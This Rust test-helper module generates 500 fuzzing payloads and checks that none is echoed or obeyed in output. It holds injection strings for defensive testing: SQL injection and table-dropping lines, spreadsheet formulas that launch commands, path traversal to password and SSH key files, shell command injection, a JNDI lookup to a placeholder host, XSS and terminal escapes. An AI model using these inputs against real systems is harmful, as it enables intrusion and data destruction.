//! Five hundred texts that have broken other programs, put together here, and what is looked for afterwards. *Pure.*

/// The payloads: no two the same, no blank one among them.
pub fn payloads() -> Vec<String> {
    let mut all: Vec<String> = SEEDS.iter().map(|seed| (*seed).to_owned()).collect();
    all.extend(control_characters());
    for length in [33, 41, 51, 65, 81, 201, 1_000, 5_000, 70_000] {
        all.push("A".repeat(length));
        all.push("王".repeat(length));
        all.push("'".repeat(length));
    }
    // Each seed again where it would end a string, a cell, a line or a comment first.
    let around = [
        ("'", "'--"),
        ("\"", "\""),
        ("x,", ",y"),
        ("\r\n", ""),
        ("*/", "/*"),
        (" ", " "),
        ("', '", ""),
    ];
    let mut turned = around
        .iter()
        .flat_map(|(before, after)| SEEDS.iter().map(move |seed| format!("{before}{seed}{after}")));
    while all.len() < COUNT {
        let next = turned.next().unwrap();
        if !all.contains(&next) {
            all.push(next);
        }
    }
    all
}

/// The cell as it stands in a file.
pub fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Insists that none of the payloads was told; the shortest are words of every text.
#[track_caller]
pub fn silent(payloads: &[String], text: &str) {
    let told = payloads
        .iter()
        .find(|payload| payload.len() >= 8 && payload.trim() != "--help" && text.contains(payload.as_str()));
    assert_eq!(told, None);
}

/// What a terminal obeys instead of showing.
pub fn is_obeyed(c: char) -> bool {
    c.is_control() && c != '\n' && c != '\t'
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// Every control character, each within a word.
fn control_characters() -> impl Iterator<Item = String> {
    let below_space = (0..0x20).chain(0x7f..0xa0);
    below_space.filter_map(char::from_u32).map(|c| format!("a{c}b"))
}

/// How many there are.
pub const COUNT: usize = 500;

const SEEDS: [&str; 104] = [
    // SQL, for both engines.
    "' OR '1'='1",
    "'; DROP TABLE consent; --",
    "'); DELETE FROM request; --",
    "1; ATTACH DATABASE 'x.db' AS x",
    "' UNION SELECT sealed FROM consent --",
    "\" OR \"\"=\"",
    "$1",
    "$99",
    "?",
    "?1",
    ":name",
    "@name",
    "1 OR 1=1",
    "admin'--",
    "' AND randomblob(1000000000) --",
    "'; PRAGMA writable_schema=1; --",
    "'||pg_sleep(9)||'",
    "E'\\\\x00'",
    "$$; COMMIT; $$",
    "\\'; COMMIT; --",
    "%' ESCAPE '%",
    "_%_%_%",
    "NULL",
    "null",
    "CAST(x AS INTEGER)",
    "x' COLLATE NOCASE",
    // Formulas.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/\")",
    "=IMPORTXML(CONCAT(1))",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    // Logs and terminals.
    "a\r\nINFO accepted batch=004",
    "a\nb",
    "a\rb",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "a%0d%0aSet-Cookie: x=1",
    "a\u{2028}b",
    "a\u{85}b",
    // Paths.
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/zero",
    "file:///etc/passwd",
    "%2e%2e%2f",
    "....//....//",
    "C:\\con",
    "~/.ssh/id_rsa",
    "-rf",
    "--help",
    // Templates, shells, formats.
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{:?}",
    "{x}",
    "%s%s%n",
    "%x%x",
    "${jndi:ldap://192.0.2.1/a}",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned",
    "| touch pwned",
    "&& touch pwned",
    "$IFS$9",
    // Markup and documents.
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<!ENTITY x SYSTEM \"file:///x\">",
    "<![CDATA[x]]>",
    "{\"v\":2}",
    "\",\"subject_id\":\"A123456789",
    "\\u0000",
    "\\",
    "\\\"",
    "]]>",
    "&lt;&#0;",
    // Order, invisible and look-alike characters.
    "\u{202e}gpj.exe",
    "a\u{200b}b",
    "\u{feff}a",
    "\u{2066}a\u{2069}",
    "a\u{301}\u{301}\u{301}\u{301}",
    "\u{fdd0}\u{ffff}",
    "\u{e000}\u{f8ff}",
    "𠮷野家",
    "\u{1f468}\u{200d}\u{1f469}",
    "Ａ１２３４５６７８９",
    "İıſK",
    "ﷺ",
    "\u{10ffff}",
    "許功蓋\\",
    // Numbers and identity numbers where they do not belong.
    "A123456789",
    "xA123456789x",
    "-9223372036854775808",
    "1e309",
    "NaN",
    "0x7fffffff",
];
